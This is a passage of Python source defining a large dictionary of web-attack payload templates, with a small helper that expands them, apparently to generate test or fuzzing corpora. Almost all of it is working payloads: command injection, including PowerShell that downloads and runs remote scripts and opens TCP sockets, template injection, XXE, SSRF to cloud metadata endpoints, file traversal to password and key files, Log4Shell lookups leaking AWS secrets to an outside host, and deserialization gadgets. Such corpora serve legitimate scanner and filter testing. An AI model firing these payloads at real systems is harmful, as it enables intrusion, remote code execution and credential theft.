    "rce-whole-command": ("rce-unix", ("cat ⟨file⟩", "/bin/cat ⟨file⟩", "ls -la /", "uname -a", "curl http://⟨host⟩/⟨w⟩ -o /tmp/⟨w⟩", "/usr/bin/wget http://⟨host⟩/⟨w⟩", "ping -c ⟨d⟩ ⟨ip⟩", "system('cat ⟨file⟩')", "() { :;}; /bin/bash -c \"⟨cmd⟩\"", "() { _; } >_[$($())] { ⟨cmd⟩; }", "whoami;id;ls", "nslookup ⟨host⟩", "bash -c 'id'", "echo ⟨w⟩;id", "sh -c \"id\"", "/bin/sh -c id")),
    "rce-windows": ("rce-windows", ("⟨¦⟨ip⟩¦⟨w⟩¦\"¦'⟩⟨&¦ & ¦|¦ | ¦&&¦ && ¦||¦\n¦;⟩⟨win⟩⟨¦ &¦|¦\"¦ & rem ⟩", "cmd.exe /c ⟨win⟩", "cmd /c \"⟨win⟩\"", "| ⟨win⟩ #", "& ⟨win⟩ &", "%COMSPEC% /c ⟨win⟩", "c:\\windows\\system32\\cmd.exe /c ⟨win⟩", "&w^h^o^a^m^i", "|d^i^r c:\\", "& n\"e\"t user", "`⟨win⟩`", "|ty^pe c:\\boot.ini", "&set /a ⟨n⟩*⟨n⟩", "& for /f %i in ('whoami') do nslookup %i.⟨host⟩")),
    "rce-powershell": ("rce-windows", (
        "powershell -⟨e¦enc¦EncodedCommand⟩ ⟨b64w⟩", "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Command \"IEX (New-Object Net.WebClient).DownloadString('http://⟨host⟩/⟨w⟩.ps1')\"", ";Get-ChildItem C:\\", "| Get-Process", "$(Get-Content C:\\windows\\win.ini)", "Invoke-WebRequest http://⟨host⟩/⟨w⟩ -OutFile ⟨w⟩.exe", "IEX(IWR http://⟨host⟩/⟨w⟩ -UseBasicParsing)", "; Start-Process calc.exe",
        "[System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String('⟨b64w⟩'))|iex", "& powershell -c \"ls C:\\\"", "pwsh -c id", "Set-ExecutionPolicy Bypass -Scope Process -Force; ⟨w⟩", "(New-Object System.Net.WebClient).DownloadFile('http://⟨host⟩/⟨w⟩','⟨w⟩')", ";Start-Sleep -Seconds ⟨d⟩", "|Invoke-Expression", "gwmi win32_process|select name;Get-WmiObject Win32_OperatingSystem", "$c=New-Object System.Net.Sockets.TCPClient('⟨ip⟩',⟨port⟩)")),
    # ------------------------------------------------------------------------------------------------ includes, templates
    "ssi": ("ssi", ("<!--#exec cmd=\"⟨cmd⟩\" -->", "<!--#include file=\"⟨file⟩\"-->", "<!--#include virtual=\"/⟨w⟩.html\" -->", "<!--#echo var=\"⟨DOCUMENT_ROOT¦REMOTE_ADDR¦DATE_LOCAL⟩\" -->", "<!--#printenv -->", "<!--#config errmsg=\"⟨w⟩\"-->", "<!--#set var=\"x\" value=\"1\" -->", "<!-- #exec cgi=\"/cgi-bin/⟨w⟩.cgi\" -->", "<esi:include src=http://⟨host⟩/⟨w⟩ />", "<esi:vars>$(HTTP_COOKIE)</esi:vars>", "<!--esi $add_header('⟨w⟩','x') -->", "<!--#flastmod file=\"index.html\" -->", "<!--#fsize file=\"/etc/passwd\" -->")),
    "ssti-probe": ("ssti", ("{{⟨n⟩*⟨n⟩}}", "${⟨n⟩*⟨n⟩}", "#{⟨n⟩*⟨n⟩}", "*{⟨n⟩*⟨n⟩}", "<%= ⟨n⟩*⟨n⟩ %>", "{⟨n⟩*⟨n⟩}", "@(⟨n⟩+⟨n⟩)", "${{⟨n⟩*⟨n⟩}}", "{{⟨n⟩*'⟨n⟩'}}", "[[${⟨n⟩*⟨n⟩}]]", "{{= ⟨n⟩*⟨n⟩ }}", "~{⟨n⟩+⟨n⟩}", "__${⟨n⟩*⟨n⟩}__::.x", "#set($x=⟨n⟩*⟨n⟩)${x}", "${⟨n⟩-⟨n⟩}", "<%=⟨n⟩+⟨n⟩%>", "{{⟨n⟩-⟨n⟩}}", "%{⟨n⟩*⟨n⟩}", "{{ ⟨n⟩ + ⟨n⟩ }}", "{% if 1==1 %}⟨w⟩{% endif %}{{⟨n⟩*⟨n⟩}}", "{@math key=⟨n⟩ method=\"multiply\" operand=⟨n⟩/}", "{math equation=\"⟨n⟩*⟨n⟩\"}", "${\"⟨w⟩\".toUpperCase()}", "{{'⟨w⟩'|upper}}", "{{\"⟨w⟩\".upper()}}")),
    "ssti-python": ("ssti", ("{{''.__class__.__mro__[⟨d⟩].__subclasses__()}}", "{{config}}", "{{config.items()}}", "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('⟨cmd⟩').read()}}", "{{request['application']['__globals__']}}", "{{lipsum.__globals__['os'].popen('id').read()}}", "{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}", "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}", "${self.module.cache.util.os.popen('id').read()}", "<%\nimport os\nx=os.popen('id').read()\n%>${x}", "{{url_for.__globals__}}", "{{get_flashed_messages.__globals__.__builtins__.open('⟨file⟩').read()}}", "{{x.__init__.__builtins__.exec('1')}}", "{% import os %}{{os.system('id')}}", "{% raw %}{{7*7}}{% endraw %}", "{% debug %}", "{{settings.SECRET_KEY}}", "{% include 'admin/base.html' %}{% load log %}{% get_admin_log 10 as log %}")),
    "ssti-php-ruby": ("ssti", ("{{_self.env.registerUndefinedFilterCallback('system')}}{{_self.env.getFilter('id')}}", "{{['id']|filter('system')}}", "{{['id',1]|sort('system')|join}}", "{system('id')}", "{php}system('id');{/php}", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,'x',self::clearConfig())}", "{$smarty.version}", "{{app.request.server.all|join(',')}}", "{{'/etc/passwd'|file_excerpt(1,30)}}", "<%= system('id') %>", "<%= `id` %>", "<%= File.open('⟨file⟩').read %>", "#{%x(id)}", "<%= Dir.entries('/') %>", "<%= IO.popen('id').readlines() %>", "{{[0]|reduce('system','id')}}", "{{{'<?php phpinfo();'}|map('passthru')}}", "@php system('id'); @endphp", "{{ dump(app) }}", "{{'id'|passthru}}", "{if phpinfo()}{/if}", "<%= ENV %>", "<%= @user.send(:eval,'id') %>")),
    "ssti-java": ("ssti", ("${T(java.lang.Runtime).getRuntime().exec('⟨cmd⟩')}", "<#assign x='freemarker.template.utility.Execute'?new()>${x('id')}", "#set($e='e')$e.getClass().forName('java.lang.Runtime')", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}", "#{T(java.lang.System).getenv()}", "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}", "${pageContext.request.getSession().setAttribute('a','b')}", "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",\"id\").start()}", "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}__::.x", "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]", "${applicationScope}", "${header}", "#{session.setAttribute('rtc',true)}", "${sessionScope}", "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}", "$class.inspect('java.lang.Runtime').type.getRuntime().exec('id')", "(#context['xwork.MethodAccessor.denyMethodExecution']=false)", "redirect:${#a=new java.lang.ProcessBuilder('id')}", "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}", "@java.lang.Runtime@getRuntime().exec('id')", "${param.x}", "${facesContext.getExternalContext()}", "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('⟨w⟩','1')}")),
    "ssti-node-net": ("ssti", ("{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{/with}}{{/with}}{{/with}}", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}", "#{root.process.mainModule.require('child_process').spawnSync('id').stdout}", "<%= global.process.mainModule.require('child_process').execSync('id') %>", "${require('child_process').execSync('id')}", "@{System.Diagnostics.Process.Start(\"cmd\",\"/c id\")}", "@System.IO.File.ReadAllText(\"c:\\windows\\win.ini\")", "- var x = root.process\n- x = x.mainModule.require\n= x('child_process').exec('id')", "{{joiner.__init__.constructor('id')}}", "${process.env}", "<%- process.env %>", "{{ this.constructor.constructor('return process.env')() }}", "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process').exec('id')}()}")),
    # --------------------------------------------------------------------------------------------- directories, XML
    "ldap": ("ldap", ("*)(⟨uid¦cn¦mail¦objectClass⟩=*", "⟨w⟩)(&", "⟨w⟩)(|(⟨uid¦cn⟩=*", "*)(uid=*))(|(uid=*", "*))(|(cn=*", "⟨w⟩*)(|(mail=*))", "admin)(!(&(1=0)", "admin)(&(password=*)", "*)(&(objectClass=*)(cn=*", "(|(uid=*)(objectClass=user))", "*))%00", "x)(cn=))\x00", "*)(|(&", "⟨w⟩)(userPassword=*)", "*()|&'", "(&(uid=⟨w⟩)(!(cn=*)))", "⟨w⟩*)((|userPassword=*)", "*))(|(uid=", "*|(objectclass=*)", "%2a%29%28uid%3d%2a", "*)(sn=*))%00", "(cn=*)(|(uid=⟨w⟩", "admin*)(|(objectclass=*)")),
    "xpath": ("xpath", ("' or '⟨n⟩'='⟨n⟩", "' or 1=1 or ''='", "x' or name()='⟨w⟩' or 'x'='y", "'] | //*['", "' or count(//*)>⟨n⟩ or 'a'='b", "' and string-length(name(/*[1]))=⟨d⟩ and '1'='1", "⟨n⟩ or substring(name(parent::*[position()=1]),1,1)='⟨w⟩'", "']/../*['", "' or contains(name,'⟨w⟩') or '", "')] | //user/*[('", "⟨n⟩] | //password%00", "' and doc('http://⟨host⟩/')=1 or '1'='1", "'] | a[?'", "' or position()=⟨d⟩ or ''='", "//user[name/text()='⟨w⟩' or '1'='1']", "') or not(text()='⟨w⟩') or ('1'='2", "' or starts-with(@⟨w⟩,'a') or 'x'='y", "1 or count(/child::node())=1", "' and substring(//user[1]/password,1,1)='a' and ''='")),
    "xxe": ("xxe", (
        '<?xml version="1.0"?><!DOCTYPE ⟨w⟩ [<!ENTITY ⟨w⟩ SYSTEM "⟨file://⟨file⟩¦http://⟨host⟩/⟨w⟩¦php://filter/read=convert.base64-encode/resource=index.php¦expect://id¦file:///c:/windows/win.ini⟩">]><x>&⟨w⟩;</x>', '<!DOCTYPE ⟨w⟩ [<!ENTITY % ⟨w⟩ SYSTEM "http://⟨host⟩/⟨w⟩.dtd">%⟨w⟩;]><a/>', '<!DOCTYPE ⟨w⟩ SYSTEM "http://⟨host⟩/⟨w⟩.dtd"><a/>', '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "⟨w⟩"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]><x>&c;</x>', '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file://⟨file⟩" parse="text"/></a>', '<!DOCTYPE x [<!ELEMENT x ANY><!ENTITY xxe SYSTEM "⟨file⟩">]><x>&xxe;</x>', '<!DOCTYPE r [<!ENTITY % d PUBLIC "⟨w⟩" "http://⟨host⟩/e.xml">%d;]><r/>', '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://⟨host⟩/⟨w⟩.xsl"?><x/>', '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of select="document(\'⟨file⟩\')"/></xsl:template></xsl:stylesheet>', '<!DOCTYPE svg [<!ENTITY x SYSTEM "⟨file⟩">]><svg>&x;</svg>', '<soap:Body><foo><![CDATA[<!DOCTYPE doc [<!ENTITY % dtd SYSTEM "http://⟨host⟩/"> %dtd;]><xxx/>]]></foo></soap:Body>')),
    # ------------------------------------------------------------------------------------------------------ URLs and files
    "ssrf-metadata": ("ssrf", ("http://169.254.169.254/⟨latest/meta-data/¦latest/user-data¦latest/meta-data/iam/security-credentials/⟨w⟩¦metadata/v1.json¦metadata/instance?api-version=2021-02-01¦opc/v1/instance/¦openstack/latest/meta_data.json¦latest/api/token¦⟩", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", "http://100.100.100.200/latest/meta-data/", "http://[fd00:ec2::254]/latest/meta-data/", "http://metadata/computeMetadata/v1beta1/", "http://2852039166/latest/meta-data", "http://0xa9fea9fe/", "http://0251.0376.0251.0376/", "http://169.254.169.254.nip.io/", "http://[::ffff:a9fe:a9fe]/latest", "http://instance-data/latest/meta-data", "http://192.0.0.192/latest/", "http://169.254.170.2/v2/credentials/", "http://metadata.packet.net/userdata", "http://rancher-metadata/2015-12-19/", "https://kubernetes.default.svc/api/v1/secrets", "http://169.254.169.254:80/latest", "http://⟨w⟩@169.254.169.254/")),
    "ssrf-loopback": ("ssrf", ("http://127.0.0.1⟨¦:80¦:22¦:6379¦:8080¦:9200⟩/⟨¦admin¦⟨w⟩⟩", "http://localhost⟨¦:22¦:25¦:3306¦:8080⟩/⟨¦admin⟩", "http://2130706433/", "http://0x7f000001/", "http://017700000001/", "http://0177.0.0.1/", "http://127.1/", "http://0/", "http://0.0.0.0:⟨port⟩/", "http://[::]:80/", "http://[::1]/", "http://[0:0:0:0:0:ffff:127.0.0.1]/", "http://127.127.127.127/", "http://localtest.me/", "http://127.0.0.1.nip.io/", "http://spoofed.burpcollaborator.net/", "http://①②⑦.⓪.⓪.①/", "http://0x7f.1/", "http://127.0.1/", "http://⟨host⟩@127.0.0.1/", "http://127.0.0.1#@⟨host⟩/", "http://127。0。0。1/", "http://[::ffff:7f00:1]/", "https://127.0.0.1/", "//127.0.0.1/admin", "http://10.0.0.1/", "http://192.168.1.1/admin", "http://172.17.0.1:2375/containers/json", "http:127.0.0.1/", "http://localhost%23@⟨host⟩/", "http://127.0.0.1%2f@⟨host⟩")),
    "ssrf-scheme": ("ssrf", ("gopher://⟨127.0.0.1¦⟨host⟩⟩:6379/_⟨w⟩", "dict://127.0.0.1:11211/stats", "ftp://127.0.0.1/", "ldap://⟨host⟩:389/%0astats", "file://⟨file⟩", "file:///c:/windows/win.ini", "tftp://⟨host⟩:69/⟨w⟩", "sftp://⟨host⟩:⟨port⟩/", "jar:http://⟨host⟩/⟨w⟩.jar!/", "netdoc://⟨file⟩", "url:file://⟨file⟩", "gopher://⟨ip⟩:25/_HELO%20localhost", "ldaps://⟨ip⟩/⟨w⟩", "smb://⟨ip⟩/⟨w⟩", "php://filter/resource=http://127.0.0.1", "imap://⟨host⟩:143/")),
    "lfi-traversal": ("lfi", ("⟨¦/¦⟨w⟩/¦./¦images/¦file://⟩⟨ups⟩⟨etc/passwd¦etc/shadow¦windows/win.ini¦boot.ini¦etc/hosts¦proc/self/environ¦var/log/nginx/access.log¦WEB-INF/web.xml¦windows/system32/drivers/etc/hosts¦root/.ssh/id_rsa¦etc/passwd%00¦etc/passwd%00.jpg⟩", "/../../../../../⟨w⟩", "..\\..\\..\\..\\⟨w⟩.ini", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "/%5c../%5c../%5c../etc/passwd", "..%u2215..%u2215..%u2215etc/passwd", "..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc/passwd", "/.//..//..//..//etc/passwd", "⟨w⟩/..%00/..%00/..%00/etc/passwd", "..%25%35%63..%25%35%63etc/passwd", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "..0x2f..0x2f..0x2fetc0x2fpasswd", "/..%255c..%255c..%255cwindows/win.ini", "%2e%2e%5c%2e%2e%5c%2e%2e%5cboot.ini", "///etc/passwd", "....\\....\\....\\windows\\win.ini", "..././..././..././etc/passwd", "/..;/..;/..;/etc/passwd", "../../../../../../../../../../etc/passwd/././././././.", "..\\/..\\/..\\/etc/passwd")),
    "lfi-file": ("lfi", ("⟨file⟩", "/etc/passwd%00", "file://⟨file⟩", "c:\\windows\\win.ini", "C:/boot.ini", "/proc/self/cmdline", "/proc/self/fd/⟨d⟩", "/var/log/auth.log", "/root/.bash_history", "/home/⟨w⟩/.ssh/id_rsa", "\\\\localhost\\c$\\windows\\win.ini", "/WEB-INF/web.xml", "/etc/mysql/my.cnf", "/usr/local/apache2/conf/httpd.conf", "/etc/nginx/nginx.conf", "~/.aws/credentials", "/var/run/secrets/kubernetes.io/serviceaccount/token", "c:\\inetpub\\wwwroot\\web.config", "/etc/./passwd", "/etc//passwd", "/???/passwd" , "/etc/apache2/sites-enabled/000-default.conf", "/etc/ssh/sshd_config", "/var/www/html/wp-config.php", "/etc/init.d/apache2", "/proc/net/tcp", "/proc/sched_debug", "C:\\Windows\\System32\\config\\SAM")),
    "lfi-wrapper": ("lfi", ("php://filter/⟨read=convert.base64-encode¦convert.base64-encode¦string.rot13¦zlib.deflate/convert.base64-encode⟩/resource=⟨index.php¦⟨file⟩⟩", "php://input", "PHP://Filter/convert.iconv.UTF8.UTF16/resource=⟨file⟩", "expect://⟨cmd⟩", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+", "data:text/plain,<?php system('id');?>", "zip://⟨w⟩.jpg%23⟨w⟩.php", "phar://⟨w⟩.phar/⟨w⟩.php", "glob:///etc/*", "compress.zlib://⟨file⟩", "php:expect://id", "php://fd/⟨d⟩", "ogg://⟨w⟩", "rar://⟨w⟩.rar#⟨w⟩", "php://filter//resource=/etc/passwd", "data:,<?php phpinfo();", "file:/etc/passwd%3F/")),
    "rfi": ("rfi", ("http://⟨host⟩/⟨w⟩.txt?", "https://⟨host⟩/shell.php", "http://⟨ip⟩/⟨w⟩.txt", "http://⟨host⟩/⟨c99¦r57¦cmd¦evil⟩.txt?cmd=id", "ftp://⟨host⟩/⟨w⟩.php", "\\\\⟨host⟩\\⟨w⟩\\⟨w⟩.php", "http://⟨host⟩/⟨w⟩.php%00", "hTTp://⟨host⟩/⟨w⟩.txt??", "https://⟨host⟩/⟨w⟩.php?⟨w⟩=", "http://⟨ip⟩:⟨port⟩/⟨w⟩.sh", "//⟨host⟩/⟨w⟩.php?", "http://⟨host⟩/⟨w⟩.jpg?", "http:\\\\⟨host⟩\\⟨w⟩.txt", "http://⟨ip⟩/⟨w⟩", "http://⟨host⟩/id.txt?", "http%3A%2F%2F⟨host⟩%2F⟨w⟩.txt%3F")),
    "redirect": ("redirect", ("///⟨host⟩", "////⟨host⟩/%2f..", "/\\⟨host⟩", "\\\\⟨host⟩", "//⟨host⟩/%2e%2e", "https:⟨host⟩", "https:/⟨host⟩", "http://⟨w⟩@⟨host⟩", "//⟨host⟩@⟨w⟩.example", "/%09/⟨host⟩", "/%5c⟨host⟩", "//%0d%0a⟨host⟩", "https://⟨w⟩.example%40⟨host⟩", "http://⟨host⟩\\@⟨w⟩.example", "/.⟨host⟩", "///\\;@⟨host⟩", "http:///⟨host⟩", "https://⟨w⟩.example;@⟨host⟩", "//⟨host⟩%00.⟨w⟩.example", "http://⟨w⟩.example%2523@⟨host⟩", "〱⟨host⟩", "//⟨host⟩。example", "/\\/⟨host⟩", "\\/\\/⟨host⟩/", "x://⟨host⟩", "/⟨ip⟩//⟨host⟩" , "https:\\⟨host⟩", "//⟨host⟩/%2f%2e%2e", "<>//⟨host⟩", "/?/⟨host⟩")),
    # -------------------------------------------------------------------------------------------------- lines, mail, logs
    "crlf": ("crlf", ("⟨w⟩\r\nSet-Cookie: ⟨w⟩=⟨w⟩", "%0d%0aLocation: http://⟨host⟩", "⟨w⟩%0D%0AX-⟨w⟩: ⟨w⟩", "\r\n\r\n<script>⟨js⟩</script>", "⟨w⟩\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html", "%E5%98%8D%E5%98%8ASet-Cookie: ⟨w⟩=1", "\nRefresh: 0;url=http://⟨host⟩", "%0aSet-Cookie:⟨w⟩=⟨w⟩", "⟨w⟩\r\n Set-Cookie: a=b", "%250d%250aSet-Cookie: x=1", "\\r\\nSet-Cookie: ⟨w⟩=1", "⟨w⟩%0d%0a%0d%0a<h1>⟨w⟩</h1>", "%u000ASet-Cookie: a=b", "⟨w⟩ HTTP/1.1\r\nHost: ⟨host⟩\r\n", "/%0dSet-Cookie:⟨w⟩=⟨w⟩;", "\rAccess-Control-Allow-Origin: *")),
    "mail": ("mail", ("⟨w⟩@⟨host⟩\nBcc: ⟨w⟩@⟨host⟩", "⟨w⟩@⟨host⟩%0ACc:⟨w⟩@⟨host⟩", "⟨w⟩\r\nSubject: ⟨w⟩\r\n\r\n⟨w⟩", "⟨w⟩@⟨host⟩\r\nTo: ⟨w⟩@⟨host⟩", "⟨w⟩>\r\nRCPT TO:<⟨w⟩@⟨host⟩>\r\nDATA", "⟨w⟩\nContent-Type: multipart/mixed; boundary=⟨w⟩", "\" V100 CAPABILITY V101 FETCH 1", "⟨w⟩\r\nA001 SELECT INBOX", "⟨w⟩@⟨host⟩%0d%0aQUIT", "⟨w⟩\r\nFrom: admin@⟨host⟩\r\nReply-To: ⟨w⟩@⟨host⟩", "⟨w⟩@⟨host⟩ -OQueueDirectory=/tmp -X/var/www/⟨w⟩.php")),
    "log-lookup": ("log4shell", ("${jndi:⟨ldap¦ldaps¦rmi¦dns¦iiop¦nis⟩://⟨host⟩/⟨w⟩}", "${${lower:j}${lower:n}${lower:d}i:ldap://⟨host⟩/a}", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://⟨host⟩/a}", "${jndi:ldap://127.0.0.1#⟨host⟩/a}", "${${env:⟨w⟩:-j}ndi${env:⟨w⟩:-:}${env:⟨w⟩:-l}dap://⟨host⟩/}", "${j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di:ldap://⟨host⟩/a}", "${jndi:${lower:l}${lower:d}ap://⟨host⟩/${env:AWS_SECRET_ACCESS_KEY}}", "${${upper:ı}:x}${jndi:dns://⟨host⟩}", "${jnd${upper:ı}:ldap://⟨host⟩/a}", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://⟨host⟩}", "${jndi:ldap:${::-/}/⟨host⟩/a}", "${${sys:⟨w⟩:-jn}di:rmi://⟨host⟩}", "${${what:ever:-j}ndi:ldap://⟨host⟩}", "$%7Bjndi:ldap://⟨host⟩/a%7D", "${jndi:ldap://⟨host⟩:⟨port⟩/Basic/Command/Base64/⟨b64w⟩}", "${script:javascript:1}", "${url:utf-8:https://⟨host⟩}", "${dns:address|⟨host⟩}", "${${lower:jndi}:${lower:rmi}://⟨host⟩}", "${jn${lower:d}i:l${lower:d}ap://${hostName}.⟨host⟩}", "\\u0024\\u007bjndi:ldap://⟨host⟩\\u007d")),
    # ----------------------------------------------------------------------------------------------------- code and objects
    "code-php": ("code", ("<?php ⟨system('⟨cmd⟩')¦phpinfo()¦eval($_POST['⟨w⟩'])¦echo `id`¦passthru($_GET[0])¦file_put_contents('⟨w⟩.php','x')⟩; ?>", "<?=system('id')?>", "<?=`$_GET[0]`?>", "phpinfo();", ";phpinfo();", "${@phpinfo()}", "${@print(⟨n⟩)}", "{${system('id')}}", "';system('id');//", "assert(\"system('id')\")", "system('id')", "exec(\"id\");", "shell_exec('cat ⟨file⟩')", "eval(\"phpinfo();\");", "print(md5(⟨n⟩));", "echo(⟨n⟩*⟨n⟩);die();", "call_user_func('sys'.'tem','id')", "(sy.(st).em)(whoami);", "$_GET[a]($_GET[b]);", "preg_replace('/.*/e','system(\"id\")','')", "create_function('',\"}phpinfo();//\")", "include('http://⟨host⟩/⟨w⟩.txt')", "<script language=php>system('id')</script>", "array_map('assert',array('phpinfo()'))", "base64_decode('c3lzdGVt')('id')", "unserialize($_GET['⟨w⟩'])", "'.system('id').'", "\".passthru('id').\"", "show_source('index.php')", "var_dump(scandir('/'));", "highlight_file(__FILE__)", "%00<?php phpinfo()?>")),
    "code-script": ("code", ("__import__('os').system('⟨cmd⟩')", "eval(\"__import__('os').popen('id').read()\")", "exec('import os;os.system(\"id\")')", "().__class__.__bases__[0].__subclasses__()", "open('⟨file⟩').read()", "subprocess.check_output(['id'])", "require('child_process').execSync('id').toString()", "require('fs').readFileSync('⟨file⟩')", "process.exit()", "global.process.mainModule.require('child_process').exec('id')", "res.end(require('fs').readdirSync('.').toString())", "(function(){return process.env})()", "eval('process.env')", "`id`", "%x(id)", "Kernel.system('id')", "IO.read('⟨file⟩')", "eval(\"system('id')\")", "system(\"id\")", "os.execute('id')", "io.popen('id'):read('*a')", "println \"id\".execute().text", "Runtime.getRuntime().exec(\"id\")", "new ProcessBuilder(\"id\").start()", "java.lang.Runtime.getRuntime().exec('id')", "T(java.lang.Runtime).getRuntime()", "Class.forName('java.lang.Runtime').getRuntime().exec('id')", "new java.net.URL('http://⟨host⟩').openStream()", "System.Diagnostics.Process.Start(\"calc\")", "<%eval request(\"⟨w⟩\")%>", "<% out.println(⟨n⟩*⟨n⟩); %>", "response.write(⟨n⟩*⟨n⟩)", "\"id\".execute()", "import os; os.system('id')", "constructor.constructor('return process')().exit()", "global['process']['env']", "eval(String.fromCharCode(49,43,49))", "exec(\"import time;time.sleep(⟨d⟩)\")", "Dir.glob('/*')", "spawn('id')")),
    "objects": ("deserialization", ("rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==", "rO0ABXVyABNbTGphdmEubGFuZy5PYmplY3Q7", "aced0005737200116a6176612e7574696c2e48617368536574", 'O:⟨d⟩:"⟨w⟩":1:{s:4:"⟨w⟩";s:2:"id";}', 'a:1:{i:0;O:8:"⟨w⟩xy":0:{}}', 'O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}}', 'C:11:"ArrayObject":37:{x:i:0;a:0:{};m:a:0:{}}', "AAEAAAD/////AQAAAAAAAAAEAQAAAClTeXN0ZW0uU2VjdXJpdHk=", "gASVJAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAdzbGVlcCA1lIWUUpQu", "cposix\nsystem\n(S'id'\ntR.", "c__builtin__\neval\n(V1\ntR.", '{"⟨w⟩":"_$$ND_FUNC$$_function(){return 1}()"}', '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://⟨host⟩/a"}', '{"@type":"java.net.Inet4Address","val":"⟨host⟩"}', '["org.springframework.context.support.ClassPathXmlApplicationContext","http://⟨host⟩/x.xml"]', '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}', "!!python/object/apply:os.system [\"id\"]", "!!python/object/new:type", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://⟨host⟩\"]]]]", "--- !ruby/object:Gem::Requirement\nrequirements:", "BAhvOkBBY3RpdmVTdXBwb3J0OjpEZXByZWNhdGlvbjo6RGVwcmVjYXRlZA==", '<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"/></java>', '<sorted-set><string>x</string><dynamic-proxy><interface>java.lang.Comparable</interface></dynamic-proxy></sorted-set>', '{"__type":"System.Windows.Data.ObjectDataProvider"}', '<map><entry><jdk.nashorn.internal.objects.NativeString/></entry></map>', '{"py/object":"subprocess.Popen","py/reduce":[]}', '{"rce":{"__js_function":"function(){}"}}', "YToxOntpOjA7Tzo4OiJzdGRDbGFzcyI6MDp7fX0=")),
    "prototype": ("prototype", ("__proto__[⟨w⟩]=⟨w⟩", "constructor[prototype][⟨w⟩]=1", "__proto__.⟨w⟩=1", '{"__proto__":{"⟨w⟩":true}}', '{"constructor":{"prototype":{"⟨w⟩":"1"}}}', '{"a":{"__proto__":{"⟨w⟩":1}}}', "a[constructor][prototype][⟨w⟩]=1", "⟨w⟩.__proto__.⟨w⟩=1", "a[__proto__][⟨w⟩]=1")),
}  # fmt: skip


def drawn(templates: Sequence[str], r: random.Random, count: int) -> Iterator[str]:
    """`count` payloads, every template in its turn."""
    for number in range(count):
        yield expand(r, templates[number % len(templates)])
